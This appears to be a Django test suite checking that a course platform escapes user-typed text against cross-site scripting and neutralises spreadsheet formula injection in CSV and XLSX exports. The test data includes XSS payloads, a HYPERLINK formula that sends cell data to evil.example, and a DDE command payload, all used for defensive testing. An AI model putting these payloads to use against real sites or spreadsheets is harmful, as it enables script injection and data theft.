"""Every string people type that reaches a page is escaped (issue 9, item 3): titles and
summaries, slide text and notes from an uploaded deck, caption cues and chapters from an
uploaded video, CSV enrolment rows, the search query, members' names on certificates. Each
carries a script tag, an attribute break-out and Chinese text; the raw markup must never
appear in the HTML, and the escaped text must. The site's Content-Security-Policy
(tests/test_security_headers.py) would stop an injected inline script even so."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image as PILImage
from pptx import Presentation
from pptx.util import Inches
from taggit.models import Tag

from courses.demo_content import ensure_child
from courses.enrolments import enrol
from courses.models import (
    ArticlePage,
    CoursePage,
    CourseSectionPage,
    Enrolment,
    LecturePage,
    LectureVideo,
    SlideDeck,
)
from tests.conftest import client_for
from tests.learning import complete_lesson

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
BREAK_OUT = '"><img src=x onerror=alert(1)>'
CHINESE = "消防演练"
PAYLOAD = SCRIPT + BREAK_OUT + CHINESE
RAW = ["<script>alert(1)", "<img src=x", '"><img']
ESCAPED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" + CHINESE
)
ESCAPED_TAIL = "&lt;img src=x onerror=alert(1)&gt;" + CHINESE  # what an excerpt keeps


def page(client, url, label, *, status=200, whole=True, **params) -> str:
    """The page's HTML, checked: no raw payload, and the escaped one present."""
    response = client.get(url, params)
    assert response.status_code == status, (label, url, response.status_code)
    html = response.content.decode()
    for raw in RAW:
        assert raw not in html, (label, url, raw)
    assert (ESCAPED if whole else ESCAPED_TAIL) in html, (label, url)
    return html


def plain_text_only(message) -> bool:
    return message.content_subtype == "plain" and not getattr(message, "alternatives", None)


@pytest.fixture
def xss_course(demo):
    """A course whose every typed field carries the payload, with a section, an article and
    a lecture, trained by the demo trainer; the demo member is enrolled."""
    course = ensure_child(
        demo["catalogue"],
        CoursePage,
        "xss-course",
        title=PAYLOAD,
        summary=PAYLOAD,
        tags=[PAYLOAD],
        trainers=[demo["users"]["trainer"]],
    )
    section = ensure_child(course, CourseSectionPage, "part-1", title=PAYLOAD, intro=PAYLOAD)
    article = ensure_child(
        section,
        ArticlePage,
        "article",
        title=PAYLOAD,
        summary=PAYLOAD,
        body=json.dumps([{"type": "heading", "value": {"text": PAYLOAD, "level": "h2"}}]),
    )
    lecture = ensure_child(section, LecturePage, "lecture", title=PAYLOAD, intro=PAYLOAD)
    enrol(demo["users"]["member"], course, source=Enrolment.Source.ADMIN)
    return {"course": course, "section": section, "article": article, "lecture": lecture}


def test_titles_summaries_and_tags_are_escaped_everywhere_they_are_shown(demo, xss_course):
    member, trainer = client_for("member", demo), client_for("trainer", demo)
    course, article, lecture = xss_course["course"], xss_course["article"], xss_course["lecture"]
    tag = Tag.objects.get(name=PAYLOAD)
    for label, url in [
        ("catalogue", "/"),
        ("course", course.url),
        ("section", xss_course["section"].url),
        ("article", article.url),
        ("lecture", lecture.url),
        ("tag index", "/tags/"),
        ("tag page", f"/tags/{tag.slug}/"),
        ("my learning", "/learning/"),
    ]:
        page(member, url, label)
    page(member, "/search/", "search results", q=CHINESE)
    # A visitor meets the locked lesson page, which names the lesson and its course.
    page(Client(), lecture.url, "locked lesson", status=403)
    # Messages repeat the title: enrolling (another member) and the admin's pages.
    newcomer = Client()
    newcomer.force_login(
        type(demo["users"]["member"]).objects.create_user("newcomer", "n@example.com", "pw-1234567")
    )
    response = newcomer.post(f"/enrol/{course.pk}/", follow=True)
    assert ESCAPED in response.content.decode() and SCRIPT not in response.content.decode()
    for label, url in [
        ("members", f"/admin/courses/{course.pk}/members/"),
        ("print handouts", f"/admin/handouts/print/{course.pk}/"),
        ("slide times", f"/admin/lectures/{lecture.pk}/slide-times/"),
        ("video from slides", f"/admin/lectures/{lecture.pk}/narrate/"),
        ("page explorer", f"/admin/pages/{course.pk}/"),
    ]:
        page(trainer, url, label)


def test_the_search_query_is_escaped_where_it_is_repeated(demo):
    html = page(Client(), "/search/", "search", q=PAYLOAD)
    assert f'value="{ESCAPED}"' in html  # the search box keeps the query, as an attribute


def test_csv_rows_and_names_are_escaped_in_the_members_admin(demo, xss_course):
    course, trainer = xss_course["course"], client_for("trainer", demo)
    url = f"/admin/courses/{course.pk}/members/"

    def post_csv(text, **extra):
        upload = SimpleUploadedFile("members.csv", text.encode("utf-8"))
        return trainer.post(url, {"action": "import_csv", "csv": upload, **extra}, follow=True)

    # A bad row: the report echoes what the file said, escaped; nothing is changed.
    quoted = PAYLOAD.replace('"', '""')
    bad = post_csv(f'email,first_name\n"{quoted}",x\n')
    assert bad.status_code == 400
    html = bad.content.decode()
    assert ESCAPED in html and not any(raw in html for raw in RAW)
    # Good rows whose names carry the payload: new accounts, listed by name.
    response = post_csv(
        f'email,first_name,last_name\nxss@example.com,"{quoted}",王\n', create_accounts="on"
    )
    assert response.status_code == 200
    page(trainer, url, "members with the new account")
    # A person typed in by hand who does not exist: the message repeats what was typed.
    response = trainer.post(url, {"action": "enrol_user", "who": PAYLOAD}, follow=True)
    html = response.content.decode()
    assert ESCAPED in html and not any(raw in html for raw in RAW)


def test_member_names_are_escaped_on_the_certificate_and_in_the_admin(
    demo, django_capture_on_commit_callbacks
):
    member = client_for("member", demo)
    response = member.post(
        "/accounts/profile/",
        {"first_name": PAYLOAD, "last_name": "Li", "email": "member@example.com"},
    )
    assert response.status_code == 302
    page(member, "/accounts/profile/", "profile form")
    user = demo["users"]["member"]
    user.refresh_from_db()
    with django_capture_on_commit_callbacks(execute=True):
        for lesson in demo["course"].get_lessons():
            complete_lesson(user, lesson)
    certificate = Enrolment.objects.get(user=user, course=demo["course"]).certificate
    assert PAYLOAD in certificate.member_name  # kept as typed, escaped on output
    page(Client(), certificate.get_absolute_url(), "public certificate page")
    page(client_for("trainer", demo), f"/admin/courses/{demo['course'].pk}/members/", "members")
    # The email is plain text (no HTML part): the name as typed, not escaped.
    (email,) = [m for m in mail.outbox if m.to == [user.email]]
    assert plain_text_only(email) and PAYLOAD in email.body


def test_plain_text_emails_keep_titles_and_names_as_typed(
    demo, xss_course, django_capture_on_commit_callbacks
):
    """Emails are plain text: escaping would show "&amp;" and "&lt;" to the reader, and there
    is no HTML part for markup to run in."""
    course = xss_course["course"]
    course.enrolment = CoursePage.Enrolment.APPROVAL
    course.save_revision().publish()
    applicant = type(demo["users"]["member"]).objects.create_user(
        "applicant", "applicant@example.com", "pw-12345678", first_name="O'Brien & <Co>"
    )
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        enrol(applicant, CoursePage.objects.get(pk=course.pk))
    (request,) = mail.outbox  # to the course's trainer
    assert plain_text_only(request)
    assert PAYLOAD in request.subject and PAYLOAD in request.body
    assert "O'Brien & <Co>" in request.body and "&amp;" not in request.body


def test_announcements_questions_survey_answers_and_report_names_are_escaped(demo):
    """What the newer parts of the site show: a trainer's announcement, a member's question
    and reply, a survey answer (read under Forms) and members' names in the reports."""
    from discussion.models import Thread
    from insights.models import CourseFeedbackPage, FeedbackFormField

    course, lecture = demo["course"], demo["slides_lecture"]
    member, trainer = client_for("member", demo), client_for("trainer", demo)
    posted = trainer.post(
        f"/admin/courses/{course.pk}/announcements/", {"title": PAYLOAD, "body": PAYLOAD}
    )
    assert posted.status_code == 302
    page(member, course.url, "course page with the announcement")
    page(trainer, f"/admin/courses/{course.pk}/announcements/", "announcements admin")

    asked = member.post(
        f"/discussion/lesson/{lecture.pk}/ask/", {"title": PAYLOAD, "body": PAYLOAD}
    )
    assert asked.status_code == 302
    thread = Thread.objects.get(title=PAYLOAD)
    member.post(f"/discussion/{thread.pk}/reply/", {"body": PAYLOAD})
    page(member, f"/discussion/{thread.pk}/", "question and reply")
    page(member, lecture.url, "the lesson's questions")
    page(member, f"/discussion/course/{course.pk}/", "course questions", q=CHINESE)
    page(trainer, "/admin/discussion/", "moderation queue")

    survey = CourseFeedbackPage(title="Course feedback", slug="feedback")
    course.add_child(instance=survey)
    FeedbackFormField.objects.create(page=survey, label="Anything?", field_type="multiline")
    survey.save_revision().publish()
    assert member.post(survey.url, {"anything": PAYLOAD}).status_code == 200
    page(trainer, f"/admin/forms/submissions/{survey.pk}/", "survey answers")

    demo["users"]["member"].first_name = PAYLOAD
    demo["users"]["member"].save()
    page(trainer, "/admin/insights/progress/", "progress report", course=course.pk)


# Uploaded files: the same paths the admin uses ---------------------------------------------------


def build_payload_deck(path: Path) -> Path:
    """Two slides with the payload in the title, bullets, a link, a table, a picture's alt
    text and the speaker notes."""
    prs = Presentation()
    slide = prs.slides.add_slide(prs.slide_layouts[1])
    slide.shapes.title.text = PAYLOAD
    body = slide.placeholders[1].text_frame
    body.text = PAYLOAD
    run = body.add_paragraph().add_run()
    run.text = PAYLOAD
    run.hyperlink.address = "https://example.org/"
    slide.notes_slide.notes_text_frame.text = PAYLOAD
    second = prs.slides.add_slide(prs.slide_layouts[5])
    second.shapes.title.text = "Table " + CHINESE
    table = second.shapes.add_table(2, 2, Inches(1), Inches(2), Inches(6), Inches(2)).table
    table.cell(0, 0).text = PAYLOAD
    table.cell(1, 1).text = PAYLOAD
    image = path.with_suffix(".png")
    PILImage.new("RGB", (40, 30), "#0b5cad").save(image)
    picture = second.shapes.add_picture(str(image), Inches(1), Inches(5))
    picture._element.nvPicPr.cNvPr.set("descr", PAYLOAD)
    prs.save(path)
    return path


@pytest.mark.slow
def test_slide_text_and_notes_of_an_uploaded_deck_are_escaped(
    demo, xss_course, tmp_path, django_capture_on_commit_callbacks
):
    trainer = client_for("trainer", demo)
    deck_file = build_payload_deck(tmp_path / "payload.pptx")
    with django_capture_on_commit_callbacks(execute=True):
        response = trainer.post(
            "/admin/snippets/courses/slidedeck/add/",
            {
                "title": PAYLOAD,
                "file": SimpleUploadedFile(deck_file.name, deck_file.read_bytes()),
                "collection": 1,
            },
        )
    assert response.status_code == 302, response.content.decode()[:2000]
    deck = SlideDeck.objects.get(title=PAYLOAD)
    assert deck.status == SlideDeck.Status.READY, deck.error_message
    first = deck.slides.get(number=1)
    assert first.title == PAYLOAD and first.notes == PAYLOAD  # kept as typed, escaped on output
    lecture = LecturePage.objects.get(pk=xss_course["lecture"].pk)
    lecture.deck = deck
    lecture.save_revision().publish()
    member = client_for("member", demo)
    html = page(member, lecture.url, "lecture with its deck")
    assert "\\u003Cscript\\u003E" in html  # the viewer's JSON data (json_script)
    page(member, lecture.url + "slides/1/", "slide 1: title, bullets, link, notes")
    page(member, lecture.url + "slides/2/", "slide 2: table, alt text")
    page(member, "/search/", "search over slide text", whole=False, q=CHINESE)
    page(trainer, f"/admin/decks/{deck.pk}/preview/", "admin preview")
    page(trainer, "/admin/snippets/courses/slidedeck/", "admin listing")


SRT_PAYLOAD = (
    "1\n00:00:00,000 --> 00:00:01,000\n"
    # Tags in a cue are dropped from the track and the text; entities are text.
    f"{SCRIPT}&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt;{CHINESE}\n\n"
    "2\n00:00:01,000 --> 00:00:02,000\n"
    '<img src=x onerror="alert(2)">second\n'
)
VTT_CHAPTERS = (
    "WEBVTT\n\n00:00.000 --> 00:01.000\n"
    f"&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(1)&gt;{CHINESE}\n"
)


@pytest.mark.slow
def test_caption_cues_labels_and_chapters_of_an_uploaded_video_are_escaped(
    demo, xss_course, tmp_path, django_capture_on_commit_callbacks
):
    from tests.test_videos import make_video

    trainer = client_for("trainer", demo)
    clip = make_video(tmp_path / "talk.mp4", seconds=2)
    tracks = [
        ("zh-Hans", PAYLOAD, "captions", "talk.srt", SRT_PAYLOAD),
        ("en", "Chapters", "chapters", "chapters.vtt", VTT_CHAPTERS),
    ]
    data = {
        "title": "Payload video",
        "file": SimpleUploadedFile(clip.name, clip.read_bytes()),
        "collection": 1,
        "captions-TOTAL_FORMS": str(len(tracks)),
        "captions-INITIAL_FORMS": "0",
        "captions-MIN_NUM_FORMS": "0",
        "captions-MAX_NUM_FORMS": "1000",
    }
    for i, (language, label, kind, name, text) in enumerate(tracks):
        data |= {
            f"captions-{i}-language": language,
            f"captions-{i}-label": label,
            f"captions-{i}-kind": kind,
            f"captions-{i}-file": SimpleUploadedFile(name, text.encode()),
            f"captions-{i}-ORDER": str(i + 1),
        }
    with django_capture_on_commit_callbacks(execute=True):
        response = trainer.post("/admin/snippets/courses/lecturevideo/add/", data)
    assert response.status_code == 302, response.content.decode()[:3000]
    video = LectureVideo.objects.get(title="Payload video")
    assert video.is_ready, video.error_message
    captions = video.captions.get(kind="captions")
    assert captions.cues[0][2] == "alert(1)" + PAYLOAD  # tags dropped, entities decoded
    lecture = LecturePage.objects.get(pk=xss_course["lecture"].pk)
    lecture.video = video
    lecture.save_revision().publish()
    member = client_for("member", demo)
    html = page(member, lecture.url, "lecture: track label and chapter titles")
    assert f'label="{ESCAPED}"' in html
    page(member, "/search/", "search over what is said", whole=False, q=CHINESE)
    # The track itself is WebVTT, not HTML (nosniff), and keeps no HTML tags.
    vtt = member.get(captions.url)
    assert vtt["Content-Type"].startswith("text/vtt") and vtt["X-Content-Type-Options"] == "nosniff"
    body = vtt.content.decode()
    assert "<script" not in body and "<img" not in body and CHINESE in body


# Spreadsheets: what people typed must not run as a formula ---------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_only_text_that_would_start_a_formula_changes():
    from datetime import date

    from insights.spreadsheets import as_text_cell

    assert as_text_cell("\t=1+1") == "'\t=1+1" and as_text_cell("\r@A1") == "'\r@A1"
    assert [as_text_cell(v) for v in ("王芳", "42%", "a=b", -3, 2.5, date(2026, 1, 1))] == [
        "王芳", "42%", "a=b", -3, 2.5, date(2026, 1, 1),
    ]  # fmt: skip


def spreadsheet_cells(response) -> tuple[list[list[str]], list]:
    """The CSV's rows as text, or the XLSX's cells (openpyxl cells, to see their type)."""
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        assert data.startswith("\ufeff".encode())  # Excel then reads Chinese text as such
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig")))), []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [], [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(response, typed: list[str]):
    rows, cells = spreadsheet_cells(response)
    if rows:
        texts = [cell for row in rows for cell in row]
        for value in typed:
            # Kept, readable, but started with an apostrophe: a spreadsheet shows it as text.
            assert "'" + value in texts, (value, texts)
            assert value not in texts
    else:
        values = {cell.value: cell.data_type for cell in cells}
        for value in typed:
            assert values.get(value) == "s", (value, values)  # text, not a formula


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_in_report_downloads_are_not_formulas(demo, fmt):
    member = demo["users"]["member"]
    member.first_name, member.last_name = FORMULAS[0], ""
    member.save()
    trainer = client_for("trainer", demo)
    response = trainer.get(
        "/admin/insights/progress/", {"course": demo["course"].pk, "export": fmt}
    )
    assert response.status_code == 200
    assert_no_formula(response, [FORMULAS[0]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_survey_answers_in_downloads_are_not_formulas(demo, fmt):
    from insights.models import CourseFeedbackPage, FeedbackFormField

    survey = CourseFeedbackPage(title="Course feedback", slug="feedback")
    demo["course"].add_child(instance=survey)
    for i in range(len(FORMULAS)):
        FeedbackFormField.objects.create(page=survey, label=f"Q{i}", field_type="singleline")
    survey.save_revision().publish()
    answers = {f"q{i}": value for i, value in enumerate(FORMULAS)}
    assert client_for("member", demo).post(survey.url, answers).status_code == 200
    response = client_for("trainer", demo).get(
        f"/admin/forms/submissions/{survey.pk}/", {"export": fmt}
    )
    assert response.status_code == 200
    assert_no_formula(response, FORMULAS)
